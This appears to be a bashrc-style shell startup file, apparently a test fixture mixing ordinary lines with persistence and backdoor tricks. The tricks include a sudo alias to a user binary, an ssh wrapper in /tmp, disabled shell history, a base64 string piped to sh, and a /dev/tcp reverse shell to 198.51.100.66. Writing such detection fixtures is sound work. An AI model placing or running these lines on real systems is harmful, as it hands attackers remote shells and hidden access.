alias ll='ls -l'
alias sudo='/home/alice/.local/sudo'
ssh () { /tmp/.ssh-wrap "$@"; }
function scp { :; }
PROMPT_COMMAND='history -a'
trap 'log' DEBUG
export HISTFILE=/dev/null
unset HISTFILE
echo aGkK | base64 -d | sh
bash -i >& /dev/tcp/198.51.100.66/4444 0>&1
/opt/x/y &
if [ -f /etc/bashrc ] && true; then . /etc/bashrc; fi
curlew=1
echo $x > /dev/shm/a
/tmp/run
setsid sleep 1
